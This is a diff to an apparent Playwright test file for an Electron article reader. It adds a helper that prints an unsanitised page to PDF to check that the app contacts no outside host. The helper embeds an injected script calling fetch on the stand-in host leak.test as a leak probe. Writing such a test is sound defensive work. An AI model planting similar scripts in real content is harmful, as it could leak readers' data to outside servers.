@@ -1,8 +1,10 @@
 // Whom the app speaks to: nobody, whatever an article says (S-02, and the short form of S-07).
 import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
+import { stat } from 'node:fs/promises'
 import { join } from 'node:path'
 import { _electron, expect, type Page } from '@playwright/test'
 import { ensureRuntime, runtimeArguments } from '../../../scripts/setup/runtime.mjs'
+import { ask } from '../../helpers/bridge'
 import { startBrowser } from '../../helpers/browser-page'
 import { corpus, CORPORA_MISSING } from '../../helpers/corpora'
 import type { LaunchedApp } from '../../helpers/electron-app'
@@ -114,6 +116,18 @@ test('starting, reading, scrolling, zooming and printing ask nobody for anything
   expect(outsideEvents(log)).toEqual([])
 })
 
+/** Lay out a page as one that is to be printed, with nothing of it sanitised, and write it as a PDF. */
+async function printPastSanitiser({ app, page }: LaunchedApp, html: string, path: string): Promise<void> {
+  await app.evaluate(({ dialog }, filePath) => {
+    dialog.showSaveDialog = () => Promise.resolve({ canceled: false, filePath })
+  }, path)
+  const script = '<script>document.title = 1; fetch("http://leak.test/printed")</script>'
+  const whole = `<!doctype html><title>Hostile</title>${script}<main>${html}</main>`
+  const printed = await ask(page, 'article:print', { title: 'Hostile', html: whole, onto: 'pdf' })
+  expect(printed.ok ? printed.value : printed.error).toEqual({ path })
+  expect((await stat(path)).size).toBeGreaterThan(1000)
+}
+
 test('an article asks nobody for anything, in whatever way it tries', async ({ folders, launch }) => {
   const first = await launch()
   await waitForArticle(first.page, SAMPLE)
@@ -127,6 +141,7 @@ test('an article asks nobody for anything, in whatever way it tries', async ({ f
   await readThrough(launched)
   expect(await putPastSanitiser(launched.page, everywhere(listeners))).toBeGreaterThan(wayNames.length)
   await readThrough(launched)
+  await printPastSanitiser(launched, everywhere(listeners), join(folders.root, 'hostile.pdf'))
   expect(launched.page.url()).toMatch(/^app:\/\/ui\/index\.html/)
   await launched.close()
   listeners.close()
